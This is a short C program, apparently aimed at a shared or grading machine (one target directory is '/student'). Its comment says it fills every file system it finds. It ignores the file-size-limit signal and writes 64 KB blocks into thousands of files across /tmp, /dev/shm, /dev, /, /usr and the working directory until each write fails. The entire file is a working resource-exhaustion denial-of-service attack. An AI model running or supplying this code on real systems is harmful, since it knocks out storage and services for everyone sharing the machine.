/* Fills every file system that it finds. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
int main(void)
{
    static char block[65536];
    const char *where[] = { "/tmp", "/dev/shm", "/dev", "/",
                            "/usr", "/student", "." };
    char path[64];

    signal(SIGXFSZ, SIG_IGN);
    memset(block, 1, sizeof block);
    for (int i = 0; i < 7000; i++) {
        snprintf(path, sizeof path, "%s/fill.%d", where[i % 7], i);
        int fd = open(path, O_CREAT | O_WRONLY, 0600);
        while (fd != -1 && write(fd, block, sizeof block) > 0)
            ;
        close(fd);
    }
    return 0;
}
